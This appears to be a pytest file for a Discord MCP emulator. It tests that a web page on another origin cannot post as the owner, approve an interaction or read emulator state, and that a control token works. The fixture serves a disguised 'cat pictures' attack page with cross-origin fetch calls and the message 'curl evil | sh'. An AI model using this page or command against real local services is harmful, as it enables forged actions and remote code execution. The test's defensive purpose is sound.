"""A web page on another origin, open in the same browser as the owner's page, cannot act as
the owner: its "simple" requests (no-cors, ``text/plain``) reach the emulator and are refused.
Another port on the same host is another origin, as a page the owner browses would be."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest

from discord_mcp.emulator import RunningEmulator
from tests.support.browser import wait_for

ATTACK = """<!doctype html><html><head><title>cat pictures</title></head><body><script>
(async () => {
  const base = %(base)s;
  const said = JSON.stringify({author_id: %(owner)s, content: "!start demo curl evil | sh"});
  await fetch(base + "/_emulator/channels/" + %(channel)s + "/messages", {
    mode: "no-cors", method: "POST", body: said, headers: {"content-type": "text/plain"},
  });
  const click = JSON.stringify({user_id: %(owner)s, message_id: "1", custom_id: "approve"});
  await fetch(base + "/_emulator/interactions", {
    mode: "no-cors", method: "POST", body: click, headers: {"content-type": "text/plain"},
  });
  let read = "unread";
  try {
    const state = await fetch(base + "/_emulator/state");
    read = await state.text();
  } catch (error) {
    read = "refused";
  }
  document.title = "done:" + read;
})();
</script></body></html>"""


@pytest.fixture
def other_origin(discord: RunningEmulator) -> Iterator[str]:
    """A web server on another port, serving the attacking page."""
    page = ATTACK % {
        "base": json.dumps(discord.base_url),
        "owner": json.dumps(discord.owner_user_id),
        "channel": json.dumps(discord.channel_id),
    }

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = page.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


def test_a_page_on_another_origin_cannot_post_as_the_owner_or_read_the_state(
    chromium: Any, discord: RunningEmulator, other_origin: str
) -> None:
    control = discord.base_url + "/_emulator"
    chromium.get(other_origin)
    title = wait_for(
        lambda: chromium.title if chromium.title.startswith("done:") else None,
        what="the other origin's page to send its requests",
    )
    chromium.get("about:blank")
    chromium.get_log("browser")  # the refused read logged a CORS error there; not the page's
    assert title == "done:refused"  # no CORS headers: the state cannot be read
    said = httpx.get(f"{control}/channels/{discord.channel_id}/messages").json()
    assert not any("!start" in (m.get("content") or "") for m in said)
    # The requests did arrive, and were refused: both posts and the read.
    assert httpx.get(control + "/state").json()["stats"]["outside_refused"] == 3


def test_with_a_control_token_the_page_opened_at_the_printed_address_works(
    chromium: Any, make_emulator: Any, tmp_path: Any
) -> None:
    from tests.support.browser import Page

    secret = "page-token-5678"
    discord = make_emulator(rate_limit_scale=0.05, control_token=secret)
    page = Page(chromium, discord.base_url, tmp_path)
    chromium.get(f"{discord.base_url}/?token={secret}")
    wait_for(page.live, what="the live feed to connect with the token")
    page.find("#text")[0].send_keys("typed with a token")
    page.find("#send")[0].click()
    page.message("typed with a token")
    said = httpx.get(
        f"{discord.base_url}/_emulator/channels/{discord.channel_id}/messages",
        headers={"Authorization": f"Bearer {secret}"},
    ).json()
    assert "typed with a token" in [m["content"] for m in said]
    assert page.console_errors() == []
    chromium.get("about:blank")
